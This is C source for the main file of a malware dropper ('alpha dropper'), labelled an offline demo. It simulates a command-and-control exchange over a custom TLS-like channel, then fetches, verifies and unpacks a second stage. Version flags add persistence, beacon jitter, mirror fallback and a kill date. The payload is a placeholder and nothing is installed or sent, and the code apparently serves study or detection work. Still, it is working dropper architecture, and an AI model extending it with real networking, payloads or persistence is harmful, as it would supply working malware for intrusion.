/* Dropper: the offline round trip (ClientHello, ServerHello, request, stage) and main. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "dropper.h"

/* the C2's side of one exchange, in memory: a stage inside an HTTP answer inside a record */
static size_t simulate_c2(uint8_t *out, size_t cap, struct alpha_session *srv, const uint8_t *req,
                          size_t reqn)
{
    static const char payload[] = "second stage placeholder: the demo carries no real payload. "
                                  "second stage placeholder: the demo carries no real payload.";
    uint8_t plain[2048], stage[512];
    char http[1024];
    if (alpha_tls_unwrap(plain, sizeof(plain), req, reqn, srv) <= 0)
        return 0;
    size_t sl = make_stage(stage, sizeof(stage), payload, sizeof(payload));
    if (!sl)
        return 0;
    int hl = snprintf(http, sizeof(http), "%s\r\nContent-Type: application/octet-stream\r\n"
                      "Content-Length: %u\r\n\r\n", alpha_str(ASTR_OK), (unsigned)sl);
    memcpy(http + hl, stage, sl);
    return alpha_tls_wrap(out, cap, (const uint8_t *)http, (size_t)hl + sl, srv);
}

static int fetch_stage(const struct url *u, uint32_t host_id, char *path, size_t pcap)
{
    struct alpha_session cli, srv;
    uint8_t rec[2048], rec2[2048], body[2048];
    char req[1024];

    if (!alpha_tls_client_hello(rec, sizeof(rec), u->host, host_id, &cli))
        return -1;
    srv = cli;
    size_t m = alpha_tls_fake_server_hello(rec2, sizeof(rec2), &cli, host_id);
    if (alpha_tls_parse_server_hello(rec2, m, &cli) != 0)
        return -2;
    memcpy(srv.server_random, cli.server_random, 32);
    srv.suite = cli.suite;
    alpha_tls_derive(&srv);
    size_t rl = build_request(req, sizeof(req), u, host_id);
    size_t wn = alpha_tls_wrap(rec, sizeof(rec), (const uint8_t *)req, rl, &cli);
    size_t an = simulate_c2(rec2, sizeof(rec2), &srv, rec, wn);
    long bn = alpha_tls_unwrap(body, sizeof(body), rec2, an, &cli);
    if (bn <= 0)
        return -3;
    const uint8_t *stage;
    long sl = parse_response(body, (size_t)bn, &stage);
    struct stage_hdr h;
    if (sl <= 0 || verify_stage(stage, (size_t)sl, &h) != 0)
        return -4;
    uint8_t *raw = unpack_stage(stage, &h);
    if (!raw)
        return -5;
    stage_path(path, pcap, host_id);
    printf("stage: %u bytes (%u packed), would be installed as %s\n", h.rawlen, h.zlen, path);
    free(raw);
    return 0;
}

#if TOOL_VERSION >= 3
static int past_kill_date(void)
{
    time_t now = time(NULL);
    struct tm *t = gmtime(&now);
    return t && (t->tm_year + 1900) * 100 + t->tm_mon + 1 >= 202712;
}
#endif

int main(int argc, char **argv)
{
    const char *user = getenv("USER");
    char mutex[64], path[256], url[300];
    struct url u;
    uint32_t jit = 0;

    uint32_t id = alpha_host_id("demo-host", user ? user : "user");
    alpha_mutex_name(mutex, sizeof(mutex), id);
    printf("alpha dropper v%d (offline demo), mutex %s\n", TOOL_VERSION, mutex);
#if TOOL_VERSION >= 3
    if (past_kill_date()) {
        puts("kill date reached");
        return 0;
    }
#endif
    snprintf(url, sizeof(url), "https://%s%s", alpha_str(ASTR_HOST), alpha_str(ASTR_PATH));
    if (parse_url(argc > 1 ? argv[1] : url, &u) != 0)
        return 2;
    for (int attempt = 0; attempt < RETRIES; attempt++) {
        int r = fetch_stage(&u, id + (uint32_t)attempt, path, sizeof(path));
        if (r == 0) {
#if TOOL_VERSION >= 2
            char run[512];
            persist_entry(run, sizeof(run), path);
            printf("persistence (not created): %s\n", run);
#endif
            return 0;
        }
        printf("attempt %d failed (%d), next in %u ms\n", attempt, r, alpha_jitter(BEACON_MS, &jit));
#if TOOL_VERSION >= 3
        select_mirror((unsigned)attempt, &u);
#endif
    }
    return 1;
}
